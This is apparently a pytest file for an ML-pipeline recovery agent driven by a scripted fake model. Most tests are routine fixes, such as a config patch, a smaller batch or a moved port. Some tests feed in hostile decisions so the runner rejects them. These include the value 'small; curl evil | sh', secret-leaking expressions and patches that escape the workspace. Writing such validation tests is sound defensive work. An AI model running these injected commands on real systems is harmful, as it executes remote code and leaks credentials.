"""The recovery agent end to end: five failures of an ML pipeline, each met by a scripted
model that looks around with the tools before it decides (the fake checks that what it
looked at reached it), and the end state of the run (issue 15)."""

from __future__ import annotations

import http.server
import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from fake_anthropic import FakeAnthropic, Reply, answer, call, text

from conftest import Env, run_id_of


def use_fake(af: Env, fake: FakeAnthropic) -> None:
    af.env["ANTHROPIC_API_KEY"] = "test-key"
    af.env["ANTHROPIC_BASE_URL"] = fake.url


def decide(action: str, diagnosis: str, requires: tuple[str, ...] = (), **fields: Any) -> Reply:
    payload = {"diagnosis": diagnosis, "action": action, **fields}
    return answer(call("submit_decision", payload), requires=requires)


def look(tool: str, requires: tuple[str, ...] = (), **args: Any) -> Reply:
    return answer(text(f"Let me look with {tool}."), call(tool, args), requires=requires)


def events(af: Env, rid: str) -> list[dict[str, Any]]:
    lines = (af.run_dir(rid) / "events.jsonl").read_text().splitlines()
    return [json.loads(x) for x in lines]


def transcript(af: Env, rid: str, step: str) -> list[tuple[str, str]]:
    """The agent's tool calls about ``step``: (tool, result)."""
    return [
        (e["data"]["tool"], e["data"]["result"])
        for e in events(af, rid)
        if e["kind"] == "agent_tool" and e["step"] == step
    ]


def check_fake(fake: FakeAnthropic) -> None:
    assert not fake.unmet, f"the model could not see what it needed: {fake.unmet}"
    assert not fake.replies, "scripted replies were left unused"


# --- 5: an off-by-one in a file the traceback does not show --------------------------------

TRAIN = """\
version: 1
name: offbyone
defaults: {on_failure: diagnose}
steps:
  - id: train
    run: python3 train.py
"""

CONFIG = "LAYERS = [f'layer{i}' for i in range(1, 4)]\n"
TRAIN_PY = """\
from config import LAYERS
assert len(LAYERS) == 4, "the model needs 4 layers"
print("trained with", len(LAYERS), "layers")
"""
FIX = """\
--- a/config.py
+++ b/config.py
@@ -1 +1 @@
-LAYERS = [f'layer{i}' for i in range(1, 4)]
+LAYERS = [f'layer{i}' for i in range(4)]
"""


def test_a_bug_in_a_file_the_traceback_does_not_show_is_read_and_patched(af: Env) -> None:
    (af.workspace / "config.py").write_text(CONFIG)
    (af.workspace / "train.py").write_text(TRAIN_PY)
    wf = af.write(TRAIN)
    replies = [
        look("read_file", requires=("needs 4 layers",), path="train.py"),
        look("read_file", requires=("from config import LAYERS",), path="config.py"),
        decide(
            "retry_with_changes",
            "config.LAYERS starts at 1: three layers, not four",
            requires=("range(1, 4)",),  # it saw config.py before it patched it
            category="bug",
            patch=FIX,
        ),
    ]
    with FakeAnthropic(replies) as fake:
        use_fake(af, fake)
        res = af.cli("run", str(wf), "--yes", "--ci")
    check_fake(fake)
    assert res.returncode == 0, res.stdout + res.stderr
    rid = run_id_of(res.stdout)
    st = af.state(rid)["steps"]["train"]
    assert (st["status"], st["attempts"]) == ("succeeded", 2)
    assert (af.workspace / "config.py").read_text() == "LAYERS = [f'layer{i}' for i in range(4)]\n"
    # Saved with the attempt it fixed (its folder moves aside when the next one starts).
    assert (af.run_dir(rid) / "steps/train/attempt-1/patch-1.diff").read_text() == FIX
    kinds = [e["kind"] for e in events(af, rid)]
    assert kinds.index("patch_applied") < kinds.index("retry_scheduled")
    tools = transcript(af, rid, "train")
    assert [t for t, _ in tools if t != "text"] == ["read_file", "read_file"]
    assert "range(1, 4)" in tools[-1][1]
    assert "trained with 4 layers" in (af.run_dir(rid) / "steps/train/output.log").read_text()
    # What it learned names the file and the fix, and how it was found.
    learned = af.cli("learn", rid)
    assert learned.returncode == 0, learned.stderr
    assert "config.py" in learned.stdout
    assert "+LAYERS = [f'layer{i}' for i in range(4)]" in learned.stdout


def test_a_patch_that_does_not_fix_the_step_is_taken_back(af: Env) -> None:
    (af.workspace / "config.py").write_text(CONFIG)
    (af.workspace / "train.py").write_text(TRAIN_PY)
    wf = af.write(TRAIN)
    wrong = FIX.replace("range(4)", "range(2, 4)")
    replies = [
        decide("retry_with_changes", "off by one", patch=wrong),
        decide("escalate", "I do not know", question="How many layers should the model have?"),
    ]
    with FakeAnthropic(replies) as fake:
        use_fake(af, fake)
        res = af.cli("run", str(wf), "--yes", "--ci")
    check_fake(fake)
    assert res.returncode == 3, res.stdout + res.stderr
    rid = run_id_of(res.stdout)
    assert (af.workspace / "config.py").read_text() == CONFIG  # as it was
    reverted = [e for e in events(af, rid) if e["kind"] == "patch_reverted"]
    assert reverted
    assert reverted[0]["data"] == {"files": ["config.py"]}
    st = af.state(rid)["steps"]["train"]
    assert st["status"] == "blocked"
    assert "How many layers should the model have?" in st["message"]


def test_a_patch_may_not_leave_the_workspace(af: Env, tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("keep\n")
    (af.workspace / "link.py").symlink_to(outside)
    wf = af.write(TRAIN)
    escapes = [
        "--- a/../outside.txt\n+++ b/../outside.txt\n@@ -1 +1 @@\n-keep\n+gone\n",
        "--- a/link.py\n+++ b/link.py\n@@ -1 +1 @@\n-keep\n+gone\n",
        "--- /dev/null\n+++ b//etc/agentflow-x\n@@ -0,0 +1 @@\n+gone\n",
    ]
    replies = [decide("retry_with_changes", "x", patch=p) for p in escapes]
    replies.append(decide("abort", "nothing to do"))
    with FakeAnthropic(replies) as fake:
        use_fake(af, fake)
        res = af.cli("run", str(wf), "--yes", "--ci")
    assert res.returncode == 1, res.stdout + res.stderr
    assert outside.read_text() == "keep\n"
    assert not Path("/etc/agentflow-x").exists()
    # Each refused patch went back to the model with the reason (a repair round).
    results = [json.dumps(r["body"]["messages"][-1]) for r in fake.requests[1:]]
    assert "not a path inside the workspace" in results[0]
    assert "symbolic link" in results[1]
    assert "not a path inside the workspace" in results[2]


# --- 4: an upstream step wrote a malformed file ---------------------------------------------

UPSTREAM = """\
version: 1
name: upstream
steps:
  - id: prepare
    run: python3 prep.py
  - id: train
    needs: [prepare]
    run: python3 use.py
    on_failure: diagnose
"""

PREP = """\
import os
rows = ["a,1", "b,2", "c,3"]
if os.path.exists("corrupt-once"):  # a flaky writer: the first run writes a bad row
    os.remove("corrupt-once")
    rows[1] = "b;2;bad-row"
open("data.csv", "w").write("\\n".join(rows) + "\\n")
print("wrote", len(rows), "rows")
"""
USE = """\
for n, line in enumerate(open("data.csv"), 1):
    name, value = line.strip().split(",")
print("sum", sum(int(line.split(",")[1]) for line in open("data.csv")))
"""


def test_a_malformed_file_from_an_upstream_step_is_fixed_by_rerunning_it(af: Env) -> None:
    (af.workspace / "prep.py").write_text(PREP)
    (af.workspace / "use.py").write_text(USE)
    (af.workspace / "corrupt-once").write_text("")
    wf = af.write(UPSTREAM)
    replies = [
        look("read_file", requires=("not enough values to unpack",), path="data.csv"),
        look("read_log", requires=("b;2;bad-row",), step="prepare"),
        decide(
            "rerun",
            "prepare wrote a malformed row into data.csv; its writer is flaky",
            requires=("wrote 3 rows",),
            category="data",
            rerun=["prepare"],
        ),
    ]
    with FakeAnthropic(replies) as fake:
        use_fake(af, fake)
        res = af.cli("run", str(wf), "--ci")
    check_fake(fake)
    assert res.returncode == 0, res.stdout + res.stderr
    rid = run_id_of(res.stdout)
    steps = af.state(rid)["steps"]
    assert (steps["prepare"]["status"], steps["prepare"]["attempts"]) == ("succeeded", 2)
    assert (steps["train"]["status"], steps["train"]["attempts"]) == ("succeeded", 2)
    rerun = next(e for e in events(af, rid) if e["kind"] == "rerun_scheduled")
    assert rerun["data"] == {"steps": ["prepare", "train"]}
    assert "sum 6" in (af.run_dir(rid) / "steps/train/output.log").read_text()
    learned = af.cli("learn", rid)
    assert learned.returncode == 0, learned.stderr
    assert "rerun `prepare`" in learned.stdout


# --- 3: the service's port is held by a stale server -----------------------------------------


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.fixture
def stale_server() -> Iterator[int]:
    """A server left by an earlier run, on a port the workflow wants: it answers, badly."""

    class Stale(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = b"stale server of run old-1: model v0\n"
            self.send_response(503)
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            return None

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Stale)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield int(server.server_address[1])
    server.shutdown()
    server.server_close()


SERVE = """\
version: 1
name: serving
inputs:
  port: {{type: integer, default: {port}}}
steps:
  - id: serve
    service: true
    run: python3 server.py ${{{{ inputs.port }}}}
    ready: {{http: "http://127.0.0.1:${{{{ inputs.port }}}}/health", timeout: 20s}}
    on_failure: diagnose
  - id: generate
    needs: [serve]
    run: python3 client.py ${{{{ inputs.port }}}}
"""

SERVER_PY = """\
import http.server, sys

class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"fresh model v1"
        self.send_response(200)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
"""
CLIENT_PY = """\
import sys, urllib.request
print("generated with", urllib.request.urlopen(f"http://127.0.0.1:{sys.argv[1]}/").read().decode())
"""


def test_a_port_held_by_a_stale_server_is_moved_for_the_service_its_probe_and_clients(
    af: Env, stale_server: int
) -> None:
    (af.workspace / "server.py").write_text(SERVER_PY)
    (af.workspace / "client.py").write_text(CLIENT_PY)
    wf = af.write(SERVE.format(port=stale_server))
    new = free_port()
    replies = [
        look("step_info", requires=("Address already in use",), step="serve"),
        look("http_get", requires=("generate",), url=f"http://127.0.0.1:{stale_server}/health"),
        decide(
            "retry_with_changes",
            f"port {stale_server} is held by a stale server of an earlier run",
            requires=("stale server of run old-1",),
            category="port",
            inputs={"port": new},
        ),
    ]
    with FakeAnthropic(replies) as fake:
        use_fake(af, fake)
        res = af.cli("run", str(wf), "--yes", "--ci", timeout=90)
    check_fake(fake)
    assert res.returncode == 0, res.stdout + res.stderr
    rid = run_id_of(res.stdout)
    state = af.state(rid)
    assert state["input_overrides"] == {"port": new}
    assert state["steps"]["serve"]["run_override"] == f"python3 server.py {new}"
    output = (af.run_dir(rid) / "steps/generate/output.log").read_text()
    assert "generated with fresh model v1" in output  # the right server
    ready = next(e for e in events(af, rid) if e["kind"] == "service_ready")
    assert str(new) in (ready["message"] or "")


# --- 2: out of memory, a smaller batch --------------------------------------------------------

OOM = """\
version: 1
name: oom
env: {BATCH: "64"}
defaults: {on_failure: diagnose}
steps:
  - id: train
    run: |
      if [ "$BATCH" -gt 16 ]; then
        echo "RuntimeError: CUDA out of memory. Tried to allocate 2.00 GiB (batch $BATCH)"; exit 1
      fi
      echo "trained with batch $BATCH"
"""


def test_out_of_memory_is_retried_with_a_smaller_batch_after_reading_the_log(af: Env) -> None:
    wf = af.write(OOM)
    replies = [
        look("read_log", requires=("out of memory",), step="train", grep="memory"),
        decide(
            "retry_with_changes",
            "the batch of 64 does not fit the GPU",
            requires=("Tried to allocate 2.00 GiB",),
            category="oom",
            env={"BATCH": "16"},
        ),
    ]
    with FakeAnthropic(replies) as fake:
        use_fake(af, fake)
        res = af.cli("run", str(wf), "--yes", "--ci")
    check_fake(fake)
    assert res.returncode == 0, res.stdout + res.stderr
    rid = run_id_of(res.stdout)
    assert af.state(rid)["steps"]["train"]["env_overrides"] == {"BATCH": "16"}
    assert "trained with batch 16" in (af.run_dir(rid) / "steps/train/output.log").read_text()


# --- 1: a directory that is read-only in Docker ------------------------------------------------

READONLY = """\
version: 1
name: readonly
sandbox:
  backend: docker
  image: {image}
  mounts: [{{source: data, target: /data, read_only: true}}]
env: {{CKPT_DIR: /data/ckpt}}
defaults: {{on_failure: diagnose}}
steps:
  - id: train
    run: mkdir -p "$CKPT_DIR" && echo weights > "$CKPT_DIR/model.txt" && echo saved
  - id: evaluate
    needs: [train]
    run: cat "$CKPT_DIR/model.txt"
"""


@pytest.mark.docker
def test_a_read_only_directory_in_docker_is_replaced_for_the_step_and_its_dependents(
    af: Env, docker_client: Any
) -> None:
    from conftest import TEST_IMAGE

    (af.workspace / "data").mkdir()
    wf = af.write(READONLY.format(image=TEST_IMAGE))
    replies = [
        look("sandbox_info", requires=("Read-only file system",)),
        decide(
            "retry_with_changes",
            "/data is mounted read-only: keep checkpoints in the workspace",
            requires=("/data",),
            category="mount",
            env={"CKPT_DIR": "ckpt"},
            scope="downstream",
        ),
    ]
    with FakeAnthropic(replies) as fake:
        use_fake(af, fake)
        res = af.cli("run", str(wf), "--yes", "--ci", timeout=120)
    check_fake(fake)
    assert res.returncode == 0, res.stdout + res.stderr
    rid = run_id_of(res.stdout)
    steps = af.state(rid)["steps"]
    assert steps["train"]["env_overrides"] == {"CKPT_DIR": "ckpt"}
    assert steps["evaluate"]["env_overrides"] == {"CKPT_DIR": "ckpt"}  # the dependent too
    assert (af.workspace / "ckpt" / "model.txt").read_text() == "weights\n"
    assert "weights" in (af.run_dir(rid) / "steps/evaluate/output.log").read_text()


def test_a_recorded_transcript_replays_without_the_model(af: Env, tmp_path: Path) -> None:
    wf = af.write(OOM)
    record = tmp_path / "transcript.jsonl"
    replies = [decide("retry_with_changes", "the batch does not fit", env={"BATCH": "16"})]
    with FakeAnthropic(replies) as fake:
        use_fake(af, fake)
        af.env["AGENTFLOW_LLM_RECORD"] = str(record)
        first = af.cli("run", str(wf), "--yes", "--ci")
    assert first.returncode == 0, first.stdout + first.stderr
    lines = [json.loads(x) for x in record.read_text().splitlines()]
    assert len(lines) == 1
    assert lines[0]["request"]["tool_choice"] == {"type": "any"}
    assert lines[0]["response"]["content"][0]["name"] == "submit_decision"
    # Again, with no key and nothing listening: the answers come from the file.
    for name in ("ANTHROPIC_API_KEY", "ANTHROPIC_BASE_URL", "AGENTFLOW_LLM_RECORD"):
        af.env.pop(name)
    af.env["AGENTFLOW_LLM_REPLAY"] = str(record)
    again = af.cli("run", str(wf), "--yes", "--ci")
    assert again.returncode == 0, again.stdout + again.stderr
    rid = run_id_of(again.stdout)
    assert af.state(rid)["steps"]["train"]["env_overrides"] == {"BATCH": "16"}


OLD_RUN = """\
version: 1
name: old
steps:
  - id: serve
    service: true
    run: python3 old_server.py {port}
    ready: {{http: "http://127.0.0.1:{port}/", timeout: 20s}}
  - id: hold
    needs: [serve]
    run: sleep 120
"""
OLD_SERVER_PY = SERVER_PY.replace("fresh model v1", "stale model v0")


def test_a_stale_agentflow_run_holding_the_port_is_stopped_with_approval(af: Env) -> None:
    port = free_port()
    (af.workspace / "server.py").write_text(SERVER_PY)
    (af.workspace / "old_server.py").write_text(OLD_SERVER_PY)
    (af.workspace / "client.py").write_text(CLIENT_PY)
    old = af.write(OLD_RUN.format(port=port), "old.yaml")
    res = af.cli("run", str(old), "--detach", "--run-id", "old-1")
    assert res.returncode == 0, res.stdout + res.stderr
    af.wait_for(
        lambda: af.state("old-1")["steps"]["serve"].get("ready_at") is not None,
        message="the old run's server never became ready",
    )
    wf = af.write(SERVE.format(port=port))
    replies = [
        decide(
            "retry_with_changes",
            f"port {port} is held by the server of agentflow run old-1",
            requires=("Address already in use",),
            category="port",
            stop_runs=["old-1"],
        )
    ]
    with FakeAnthropic(replies) as fake:
        use_fake(af, fake)
        res = af.cli("run", str(wf), "--yes", "--ci", timeout=120)
    check_fake(fake)
    assert res.returncode == 0, res.stdout + res.stderr
    rid = run_id_of(res.stdout)
    assert af.state("old-1")["status"] != "running"
    output = (af.run_dir(rid) / "steps/generate/output.log").read_text()
    assert "generated with fresh model v1" in output
    kinds = [e["kind"] for e in events(af, rid)]
    assert kinds.index("runs_stopped") < kinds.index("service_ready")


def test_only_a_running_agentflow_run_of_this_home_may_be_stopped(af: Env) -> None:
    wf = af.write(TRAIN)
    (af.workspace / "train.py").write_text("raise SystemExit(1)\n")
    replies = [
        decide("retry_with_changes", "x", stop_runs=["../../etc"]),
        decide("retry_with_changes", "x", stop_runs=["nope-1"]),
        decide("abort", "nothing to stop"),
    ]
    with FakeAnthropic(replies) as fake:
        use_fake(af, fake)
        res = af.cli("run", str(wf), "--yes", "--ci")
    assert res.returncode == 1, res.stdout + res.stderr
    results = [json.dumps(r["body"]["messages"][-1]) for r in fake.requests[1:]]
    assert "is not a run id" in results[0]
    assert "no run nope-1 in this home" in results[1]


BOTH = """\
version: 1
name: both
planner: {type: anthropic, model: claude-test}
defaults: {on_failure: diagnose}
steps:
  - id: make
    task: Write one line into data.txt.
  - id: count
    needs: [make]
    run: test "$OK" = 1 && wc -l < data.txt
"""


def test_one_run_that_plans_and_diagnoses_replays_in_the_recorded_order(
    af: Env, tmp_path: Path
) -> None:
    wf = af.write(BOTH)
    record = tmp_path / "both.jsonl"
    replies = [
        answer(call("submit_plan", {"steps": [{"id": "make", "run": "echo a > data.txt"}]})),
        decide("retry_with_changes", "OK is not set", env={"OK": "1"}),
    ]
    with FakeAnthropic(replies) as fake:
        use_fake(af, fake)
        af.env["AGENTFLOW_LLM_RECORD"] = str(record)
        first = af.cli("run", str(wf), "--yes", "--ci")
    assert first.returncode == 0, first.stdout + first.stderr
    for name in ("ANTHROPIC_API_KEY", "ANTHROPIC_BASE_URL", "AGENTFLOW_LLM_RECORD"):
        af.env.pop(name)
    af.env["AGENTFLOW_LLM_REPLAY"] = str(record)
    again = af.cli("run", str(wf), "--yes", "--ci")
    assert again.returncode == 0, again.stdout + again.stderr
    steps = af.state(run_id_of(again.stdout))["steps"]
    assert steps["count"]["env_overrides"] == {"OK": "1"}


INPUTS_AFTER_RUN = """\
version: 1
name: keep
inputs:
  size: {type: integer, default: 64}
defaults: {on_failure: diagnose}
steps:
  - id: train
    run: echo "size ${{ inputs.size }}"; exit 1
"""


def test_an_input_change_keeps_a_command_approved_before(af: Env) -> None:
    wf = af.write(INPUTS_AFTER_RUN)
    approved = 'echo "size 8, by hand"; exit 1'
    replies = [
        decide("retry_with_changes", "try a smaller size", run=approved),
        decide("retry_with_changes", "and the input too", inputs={"size": 8}),
        decide("abort", "no luck"),
    ]
    with FakeAnthropic(replies) as fake:
        use_fake(af, fake)
        res = af.cli("run", str(wf), "--yes", "--ci")
    check_fake(fake)
    assert res.returncode == 1, res.stdout + res.stderr
    state = af.state(run_id_of(res.stdout))
    assert state["input_overrides"] == {"size": 8}
    assert state["steps"]["train"]["run_override"] == approved


def test_the_record_file_is_never_where_a_step_writes_nor_a_link(af: Env, tmp_path: Path) -> None:
    wf = af.write(OOM)
    af.env["ANTHROPIC_API_KEY"] = "test-key"
    af.env["AGENTFLOW_LLM_RECORD"] = str(af.workspace / "rec.jsonl")
    res = af.cli("run", str(wf), "--yes", "--ci")
    assert res.returncode == 2, res.stdout + res.stderr
    assert "lies in" in res.stderr
    assert "which steps can write: put it elsewhere" in res.stderr
    victim = tmp_path / "victim"
    victim.write_text("keep\n")
    (tmp_path / "rec.jsonl").symlink_to(victim)
    af.env["AGENTFLOW_LLM_RECORD"] = str(tmp_path / "rec.jsonl")
    with FakeAnthropic([decide("retry", "again")]) as fake:
        use_fake(af, fake)
        res = af.cli("run", str(wf), "--yes", "--ci")
    assert victim.read_text() == "keep\n"  # nothing appended through the link
    st = af.state(run_id_of(res.stdout))["steps"]["train"]
    assert st["status"] == "blocked"
    assert "AGENTFLOW_LLM_RECORD" in st["message"]


CHECKED = """\
version: 1
name: checked
inputs:
  size: {type: integer, default: 64}
  mode: {default: small, choices: [small, large]}
env: {BATCH: "64"}
secrets: [HF_TOKEN]
defaults: {on_failure: diagnose}
steps:
  - id: train
    run: echo "${{ inputs.mode }} ${{ inputs.size }}"; exit 1
"""


def test_a_decision_that_would_smuggle_something_gets_the_reason_and_another_turn(
    af: Env,
) -> None:
    wf = af.write(CHECKED)
    af.env["HF_TOKEN"] = "hf-secret-value-123"
    wrong = [
        {"inputs": {"size": "8; touch x"}},
        {"inputs": {"mode": "small; curl evil | sh"}},
        {"inputs": {"mode": "${{ env.HF_TOKEN }}"}},
        {"run": "echo ${{ env.ANTHROPIC_API_KEY }} > leaked"},
        {"env": {"BATCH": "1\u0000"}},
        {"wait": "365d"},
    ]
    replies = [decide("retry_with_changes", "x", **w) for w in wrong]
    replies.append(decide("abort", "enough"))
    with FakeAnthropic(replies) as fake:
        use_fake(af, fake)
        res = af.cli("run", str(wf), "--yes", "--ci")
    check_fake(fake)
    assert res.returncode == 1, res.stdout + res.stderr
    said = [json.dumps(r["body"]["messages"][-1]) for r in fake.requests[1:]]
    assert "inputs: size: must be an integer" in said[0]
    assert "inputs: mode: must be one of small, large" in said[1]
    assert "no ${{ }} expression" in said[2]
    assert "is not in the step's environment" in said[3]
    assert "no NUL character" in said[4]
    assert "wait: at most 1h" in said[5]
    assert not (af.workspace / "leaked").exists()


def test_a_secret_the_model_quotes_is_masked_before_its_call_is_cut(af: Env) -> None:
    wf = af.write(CHECKED)
    secret = "hf-secret-value-0123456789-abcdefghij"
    af.env["HF_TOKEN"] = secret
    replies = [
        look("grep", pattern="x" * 170 + secret),
        decide("abort", "enough"),
    ]
    with FakeAnthropic(replies) as fake:
        use_fake(af, fake)
        res = af.cli("run", str(wf), "--yes", "--ci")
    assert res.returncode == 1, res.stdout + res.stderr
    rid = run_id_of(res.stdout)
    recorded = (af.run_dir(rid) / "events.jsonl").read_text()
    recorded += (af.run_dir(rid) / "agentflow.log").read_text()
    assert "hf-secret" not in recorded
